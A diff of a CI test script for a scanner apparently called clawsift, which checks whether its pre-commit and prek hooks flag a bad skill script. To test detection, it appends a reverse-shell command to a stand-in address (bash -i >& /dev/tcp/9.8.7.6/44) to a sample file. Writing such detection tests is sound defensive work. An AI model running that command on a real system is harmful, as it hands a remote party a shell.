@@ -4,7 +4,8 @@
 #
 #   tests/ci-tools.sh [BINARY]      (default: target/debug/clawsift)
 #
-# CLAWSIFT_TOOLS names a folder to keep the tools in between runs.
+# CLAWSIFT_TOOLS names a folder to keep the tools in between runs. With CLAWSIFT_ALL_HOOKS=1 the hooks are built from
+# source for prek, too: a build takes minutes, and one shows that it can be done.
 #
 # Functions are called by name, and the samples hold what a shell would expand.
 # shellcheck disable=SC2016,SC2317,SC2329
@@ -103,32 +104,51 @@ mkdir "$work/bin"
 ln -s "$(cd "$(dirname "$binary")" && pwd)/$(basename "$binary")" "$work/bin/clawsift"
 
 bad='bash -i >& /dev/tcp/9.8.7.6/44 0>&1'
-try() { (cd "$sample" && PATH=$work/bin:$PATH "$@") >"$work/hook.log" 2>&1; }
+try() { (cd "$sample" && "$@") >"$work/hook.log" 2>&1; }
 
-# passes RUNNER ID: the hook has nothing against the sample.
+spoil() { printf '%s\n' "$bad" >>"$sample/skills/sort/scripts/sort.sh"; }
+mend() { git -C "$sample" checkout -q -- .; }
+
+# passes RUNNER: the installed program has nothing against the sample.
 passes() {
-  try "$1" try-repo "$work/clone" "$2" --all-files --verbose && grep -q Passed "$work/hook.log" && return
+  PATH=$work/bin:$PATH try "$1" try-repo "$work/clone" clawsift-system --all-files --verbose &&
+    grep -q Passed "$work/hook.log" && return
   cat "$work/hook.log" && return 1
 }
 
 # refuses RUNNER ID: the hook finds a script that became bad, although only the text beside it is named.
 refuses() {
   local code=0
-  printf '%s\n' "$bad" >>"$sample/skills/sort/scripts/sort.sh"
-  try "$1" try-repo "$work/clone" "$2" --files skills/sort/SKILL.md --verbose || code=$?
-  git -C "$sample" checkout -q -- .
+  spoil
+  PATH=$work/bin:$PATH try "$1" try-repo "$work/clone" "$2" --files skills/sort/SKILL.md --verbose || code=$?
+  mend
   [ "$code" -eq 1 ] && grep -q 'skills.exec.reverse_shell' "$work/hook.log" && return
   cat "$work/hook.log" && return 1
 }
 
+# built RUNNER: the hooks that are built from source share one build, and each finds the same. No other program of the
+# name is on PATH.
+built() {
+  local code=0
+  spoil
+  SKIP=clawsift-system,clawsift-docker try "$1" try-repo "$work/clone" --files skills/sort/SKILL.md --verbose || code=$?
+  mend
+  # What is built lies at another path each time and is never used again; what it depends on is.
+  find "$CARGO_TARGET_DIR/release" -depth -name '*clawsift*' -exec rm -rf {} +
+  [ "$code" -eq 1 ] && [ "$(grep -c 'critical\[skills.exec.reverse_shell\]' "$work/hook.log")" -eq 2 ] && return
+  cat "$work/hook.log" && return 1
+}
+
 for runner in pre-commit prek; do
-  check "clawsift-system passes with $runner" "$runner" passes "$runner" clawsift-system
+  check "clawsift-system passes with $runner" "$runner" passes "$runner"
   check "clawsift-system refuses with $runner" "$runner" refuses "$runner" clawsift-system
 done
-# Each of these is built anew, so one run has to show that it was and that it works.
-check "clawsift with pre-commit, built from source" pre-commit refuses pre-commit clawsift
-check "clawsift with prek, built from source" prek refuses prek clawsift
-check "clawsift-repo with pre-commit, built from source" pre-commit passes pre-commit clawsift-repo
+check "clawsift and clawsift-repo with pre-commit, built from source" pre-commit built pre-commit
+if [ "${CLAWSIFT_ALL_HOOKS:-}" = 1 ]; then
+  check "clawsift and clawsift-repo with prek, built from source" prek built prek
+else
+  say "clawsift and clawsift-repo with prek, built from source: skipped without CLAWSIFT_ALL_HOOKS=1"
+fi
 if docker image inspect "ghcr.io/clawsift/clawsift:$(release/version.sh)" >/dev/null 2>&1; then
   check "clawsift-docker with pre-commit" pre-commit refuses pre-commit clawsift-docker
 else
